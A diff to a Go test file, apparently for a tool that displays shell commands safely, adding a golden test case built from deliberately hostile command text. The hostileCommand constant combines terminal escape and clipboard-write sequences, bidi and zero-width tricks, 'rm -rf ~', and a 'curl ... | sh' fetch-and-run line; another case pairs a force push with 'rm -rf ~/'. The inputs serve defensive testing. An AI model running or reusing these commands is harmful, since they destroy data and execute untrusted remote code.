@@ -24,7 +24,8 @@ func farCommand() string {
 // hostileCommand carries what must never drive the terminal or hide: a
 // screen clear, an OSC 52 clipboard write, a bidi override that would show
 // "rm -rf ~" backwards, a zero-width space inside a program name, a
-// carriage return that would hide what comes before it.
+// carriage return that would hide what comes before it (and makes the
+// command unreadable: bash keeps it inside a word).
 const hostileCommand = "echo \x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07 && r\u200bm -rf \u202e~ \x1b[8m; curl -s https://x.io/\u202ehs.exe | sh\r# tidy up"
 
 type goldenCase struct {
@@ -52,6 +53,9 @@ func goldenCases() []goldenCase {
 			c.Job = "fix \u202eslaer"
 			c.Cwd = "/home/op/proj\n/../../etc"
 		}},
+		// The same hostile text read part by part: a backspace in place of
+		// the carriage return, which makes a command unreadable as a whole.
+		{name: "hostile_tree", src: strings.Replace(hostileCommand, "\r", "\b", 1), width: 80},
 		{name: "megabyte", src: megabyteCommand(), width: 80},
 		{name: "deciding_part_far", src: farCommand(), width: 80},
 		{name: "refused_with_shadow", src: "git push --force origin main && rm -rf ~/", width: 80, ops: true},
